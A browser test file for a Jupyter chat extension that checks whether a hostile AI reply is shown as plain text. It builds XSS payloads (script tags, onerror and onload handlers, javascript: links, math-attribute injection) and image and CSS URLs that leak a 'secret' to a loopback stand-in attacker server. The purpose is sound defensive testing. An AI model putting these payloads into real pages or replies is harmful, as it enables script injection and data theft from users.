"""SPEC 10 in a real browser: a hostile reply runs no script and fetches nothing.

The emulator answers with markup that would run script or load an image if it were
rendered as it reads.  Each vector records itself as ``"<tag>:<vector>"`` in
``window.__pwned``, and every URL it would load points at a loopback server standing
in for the attacker, so a hole shows up either way.  A control renders the very same
text through ``IPython.display.Markdown`` (the unsafe path): it must trip both
detectors, which proves the test can fail.
"""

from __future__ import annotations

import http.server
import json
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field

import pytest
from playwright.sync_api import Locator, Page, expect

from yagpt_magic.emulator import Emulator

from .jupyter import (
    KINDS,
    ServerFactory,
    append_and_run,
    assert_only_loopback,
    create_notebook,
    open_notebook,
    run_cell,
    screenshot,
    wait_for_output,
)

pytestmark = pytest.mark.browser

SAFE_TEXT = "SAFE-VISIBLE-TEXT"
END_TEXT = "SAFE-END-OF-REPLY"


@dataclass
class Attacker:
    """A loopback HTTP server that counts what the page asks of it."""

    port: int
    paths: list[str] = field(default_factory=list)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def hits(self, tag: str) -> list[str]:
        """Requests that carry `tag`, i.e. came from the reply rendered under that tag."""
        return [path for path in self.paths if f"tag={tag}" in path]


@pytest.fixture(scope="session")
def attacker() -> Iterator[Attacker]:
    """The attacker's server; it answers every GET with a 1x1 GIF and remembers the path."""
    paths: list[str] = []
    gif = bytes.fromhex(
        "47494638396101000100800000000000ffffff21f90401000000002c00000000010001000002024401003b"
    )

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802 - the stdlib's name
            paths.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "image/gif")
            self.send_header("Access-Control-Allow-Origin", "*")
            self.send_header("Content-Length", str(len(gif)))
            self.end_headers()
            self.wfile.write(gif)

        def log_message(self, format: str, *args: object) -> None:  # noqa: A002
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield Attacker(server.server_address[1], paths)
    server.shutdown()
    server.server_close()


def hostile(tag: str, attacker: Attacker) -> str:
    """A reply that tries every way we know to run script or leak data, marked with `tag`."""
    pwn = f"(window.__pwned=window.__pwned||[]).push('{tag}:%s')"
    leak = f"{attacker.url}/%s?tag={tag}"
    return "\n".join(
        [
            f"Here is your answer. {SAFE_TEXT}",
            "",
            f'<img src=x onerror="{pwn % "img-onerror"}">',
            "",
            f"<script>{pwn % 'script'}</script>",
            "",
            f'<svg onload="{pwn % "svg-onload"}"><circle r="1"/></svg>',
            "",
            f'<iframe srcdoc="&lt;script&gt;parent.{pwn % "iframe"}&lt;/script&gt;"></iframe>',
            "",
            f"[click me](javascript:{pwn % 'js-link'})",
            "",
            f"![secret chart]({leak % 'leak'}&q=secret)",
            "",
            f'<img src="{leak % "img"}">',
            "",
            f'<div style="background:url({leak % "css"})">styled</div>',
            "",
            f"Math alt: ![$\" onerror=\"{pwn % 'math-alt'};$](x)",
            "",
            f"Math html: $<img src=x onerror=\"{pwn % 'math-html'}\">$",
            "",
            "```python",
            "print('SAFE-CODE-FENCE')",
            "```",
            "",
            END_TEXT,
        ]
    )


def pwned(page: Page) -> list[str] | None:
    """What the hostile vectors wrote to `window.__pwned` (None if nothing ran)."""
    return page.evaluate("window.__pwned")


# What the unsafe control trips in both front ends: Jupyter runs <script> in trusted
# Markdown output, keeps event attributes, and puts math back into attributes with
# its quotes intact.  (<svg onload>, srcdoc iframes and `javascript:` links need more
# than rendering to fire; the reply's output is checked for those elements instead.)
CONTROL_VECTORS = ("control:script", "control:img-onerror", "control:math-alt")
CONTROL_LEAKS = ("/leak?", "/img?", "/css?")


def wait_for_pwned(page: Page, entries: tuple[str, ...]) -> None:
    """Wait until every vector in `entries` has run."""
    page.wait_for_function(
        "entries => entries.every(e => (window.__pwned || []).includes(e))",
        arg=list(entries),
        timeout=15_000,
    )


def wait_for_hits(attacker: Attacker, tag: str, prefixes: tuple[str, ...]) -> None:
    """Wait until the attacker has seen a `tag` request for each path prefix."""
    deadline = time.monotonic() + 15
    while time.monotonic() < deadline:
        if all(any(p.startswith(prefix) for p in attacker.hits(tag)) for prefix in prefixes):
            return
        time.sleep(0.05)
    raise AssertionError(f"the attacker saw {attacker.paths}, not all of {prefixes} for {tag}")


def run_control(page: Page, attacker: Attacker) -> int:
    """Render the hostile text the unsafe way; return the cell index."""
    text = hostile("control", attacker)
    index = append_and_run(
        page, f"from IPython.display import Markdown\nMarkdown({json.dumps(text)})"
    )
    wait_for_output(page, index, END_TEXT)
    return index


def assert_shown_as_text(output: Locator) -> None:
    """The reply's text is there, and its markup is on screen as characters."""
    expect(output).to_contain_text(SAFE_TEXT)
    text = output.inner_text()
    for literal in ("<img", "<script>", "<svg", "<iframe", "javascript:", "SAFE-CODE-FENCE"):
        assert literal in text, f"{literal!r} is not shown as text in:\n{text}"
    # MathJax draws math as its own <mjx-container> markup, which is expected.
    live = output.locator(".jp-OutputArea-output").locator(
        "script, iframe, img, [onerror], [onload], svg:not(mjx-container svg)"
    )
    found = [live.nth(i).evaluate("e => e.outerHTML") for i in range(live.count())]
    assert found == [], f"the reply made live elements: {found}"
    assert output.locator("a[href^='javascript' i]").count() == 0


@pytest.mark.parametrize("kind", KINDS)
def test_hostile_reply_is_inert(
    kind: str,
    jupyter_server_factory: ServerFactory,
    chat_env: dict[str, str],
    emu: Emulator,
    attacker: Attacker,
    page: Page,
    page_requests: list[str],
    blocked_requests: list[str],
) -> None:
    server = jupyter_server_factory(kind, chat_env)
    name = create_notebook(server, f"xss-{kind}.ipynb", ["%load_ext yagpt_magic"])
    open_notebook(page, server, name)
    run_cell(page, 0)  # cells run in order, so the next one finds %%chat
    attacker.paths.clear()
    emu.reply_with(hostile("chat", attacker))

    chat = append_and_run(page, "%%chat\nSummarise the page I pasted.")
    output = wait_for_output(page, chat, END_TEXT)
    assert_shown_as_text(output)
    assert pwned(page) is None
    assert attacker.hits("chat") == []

    # The control: the same text rendered unsafely must trip both detectors...
    run_control(page, attacker)
    wait_for_pwned(page, CONTROL_VECTORS)
    wait_for_hits(attacker, "control", CONTROL_LEAKS)
    screenshot(page, f"xss-{kind}")
    # ...and once its handlers and fetches are done, the reply's would have been too.
    assert [e for e in pwned(page) or [] if not e.startswith("control:")] == []
    assert attacker.hits("chat") == []
    # And the attacker's server does count a request from this very page.
    page.evaluate("url => fetch(url).then(r => r.status)", f"{attacker.url}/probe?tag=probe")
    assert attacker.hits("probe") == ["/probe?tag=probe"]

    assert blocked_requests == []
    assert_only_loopback(page_requests)

